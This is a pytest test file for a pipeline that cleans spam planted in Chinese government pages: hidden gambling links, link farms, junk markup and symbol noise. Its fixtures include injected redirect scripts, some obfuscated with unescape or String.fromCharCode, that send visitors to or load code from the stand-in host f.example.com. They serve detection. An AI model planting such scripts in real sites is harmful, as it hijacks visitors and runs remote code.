"""pipelines.clean.planted: what strangers plant in the markup goes, what a careless template hides stays."""

import pytest

from models.values import Capture
from pipelines.clean.concealed import CONCEALMENTS, Sight, sight_of
from pipelines.clean.document import open_document
from pipelines.clean.noise import symbols
from pipelines.clean.spam import clean_line, known_of
from tests.skins import ARTICLE, PARAGRAPH, SKINS, page

OWN = "http://www.baiwei.gov.cn/nb/1.html"
WORDS = ("官网", "app下载", "登录入口", "试玩", "在线注册", "最新版下载")
LINKS = "".join(f"<a href='http://f{n}.example.com/'>灰鹭棋牌{word}</a>" for n, word in enumerate(WORDS))


def opened(text):
    return open_document(Capture(text.encode(), url=OWN))


def rules(document):
    return sorted({removal.rule for removal in document.removed})


@pytest.mark.parametrize("row", CONCEALMENTS, ids=lambda row: row.catches[0])
def test_a_concealment_catches_and_spares_what_it_says(row):
    assert [sight_of(style) for style in row.catches] == [row.sight] * len(row.catches)
    assert [style for style in row.spares if sight_of(style)] == []


@pytest.mark.parametrize("row", CONCEALMENTS, ids=lambda row: row.catches[0])
def test_a_concealed_block_that_promotes_is_taken_out_and_told(row):
    document = opened(page(SKINS["trs"], after=f"<div style='{row.catches[0]}'>{LINKS}</div>"))
    assert "hidden_links" in rules(document)
    assert "灰鹭" not in document.text


@pytest.mark.parametrize(
    "row", [r for r in CONCEALMENTS if r.sight is Sight.FAINT], ids=lambda row: row.catches[0]
)
def test_a_faint_block_of_the_office_stays(row):
    words = "联系电话：0000-1234567，欢迎来人来函查阅本报告，也可在本机关网站下载。"
    document = opened(
        page(SKINS["trs"].replace("<p>无。</p>", f"<div style='{row.catches[0]}'>{words}</div>"))
    )
    assert words in document.text
    assert document.removed == ()


def test_a_class_that_the_page_itself_conceals_is_seen():
    sheet = "<style>@media print{.foot{display:none}} .zq{position:absolute;left:-9999px} .tab{display:none}</style>"
    soiled = page(SKINS["trs"], head=sheet, after=f"<div class='x zq'>{LINKS}</div>")
    assert rules(opened(soiled)) == ["hidden_links"]
    tabbed = page(f"<div class='tab'>{SKINS['trs']}</div>", head=sheet)
    assert PARAGRAPH in opened(tabbed).text
    assert opened(tabbed).removed == ()


def test_an_article_that_a_script_shows_is_no_hidden_block():
    assert PARAGRAPH in opened(page(f"<div style='display:none' id='zoom'>{ARTICLE * 2}</div>")).text


def test_a_link_farm_goes_and_friendly_links_stay():
    farm = opened(page(SKINS["trs"], after=f"<div class='links'>{LINKS}</div>"))
    assert rules(farm) == ["link_farm"]
    friends = "".join(
        f"<a href='http://www.x{n}.com/'>{name}</a>"
        for n, name in enumerate(("日报社", "某某集团", "游戏研究院", "体育报", "电视台", "论坛"))
    )
    assert opened(page(SKINS["trs"], after=f"<div>友情链接：{friends}</div>")).removed == ()


def test_junk_elements_with_one_made_up_id_go_and_an_address_stays():
    junk = "<listing id='zdbdv'><bdo id='zdbdv'><address id='zdbdv'>灰鹭影片大全</address></bdo></listing>"
    document = opened(page(SKINS["trs"].replace("<p>无。</p>", f"<p>无。</p>{junk}")))
    assert rules(document) == ["junk_markup"]
    assert "灰鹭" not in document.text
    honest = "<address id='where'>白苇县人民路一号</address>"
    assert opened(page(SKINS["trs"], after=honest)).removed == ()


SENT_AWAY = {
    "by referrer": "<script>var r=document.referrer;if(/baidu|sogou/.test(r)){location.href='http://f.example.com/';}</script>",
    "written in code": "<script>document.write(unescape('%3Cscript src=//f.example.com/j.js%3E%3C/script%3E'));</script>",
    "in numbers": "<script>eval(String.fromCharCode("
    + ",".join(str(ord(c)) for c in "location='//f.example.com/'")
    + "))</script>",
}


@pytest.mark.parametrize("way", SENT_AWAY)
def test_a_script_that_sends_visitors_to_a_stranger_is_told(way):
    assert rules(opened(page(SKINS["trs"], after=SENT_AWAY[way]))) == ["cloaking_script"]


def test_a_script_after_the_end_and_a_refresh_to_a_stranger_are_told():
    assert rules(opened(page(SKINS["trs"]) + "<script src='//f.example.com/a.js'></script>")) == [
        "cloaking_script"
    ]
    refresh = "<meta http-equiv='refresh' content='3;url=http://f.example.com/'>"
    assert rules(opened(page(SKINS["trs"], head=refresh))) == ["cloaking_script"]


@pytest.mark.parametrize(
    "script",
    [
        "<script>if(document.referrer==''){history.back();}</script>",
        "<script>document.write(unescape('%3Cscript src=//hm.baidu.com/h.js%3E%3C/script%3E'));</script>",
        "<script>if(/Android/.test(navigator.userAgent)){location.href='/m/';}</script>",
        "<meta http-equiv='refresh' content='600'>",
    ],
)
def test_scripts_of_a_portal_are_no_injection(script):
    assert opened(page(SKINS["trs"], head=script)).removed == ()


def test_symbols_strewn_into_words_go_and_bullets_stay():
    strewn = "主动★公开政府信■息215条，其中通😊过网站公开180条。"
    text, taken = clean_line(strewn, "body", known_of("", [strewn]))
    assert text == "主动公开政府信息215条，其中通过网站公开180条。"
    assert [removal.rule for removal in taken] == ["symbol_noise"] * 3
    for honest in (
        "■ 主动公开情况",
        "●加强组织领导。●健全制度。",
        "二○一二年",
        "纸质□电子邮件□",
        "首页→政务公开→年报",
    ):
        assert symbols(honest) == []


def test_a_phrase_that_comes_back_ends_where_it_ends_most_often():
    lines = ["通过灰鹭棋牌官网网站公开3条", "省灰鹭棋牌官网办公室印发", "县灰鹭棋牌官网门户网站"]
    known = known_of("", lines)
    assert [clean_line(line, "body", known)[0] for line in lines] == [
        "通过网站公开3条",
        "省办公室印发",
        "县门户网站",
    ]


def test_a_name_of_the_publisher_is_no_brand():
    line = "全年通过海沙体育官网登录入口公开信息3条"
    assert clean_line(line, "body", known_of("海沙", [line])) == (line, ())
    assert clean_line(line, "body")[0] == "全年通过公开信息3条"
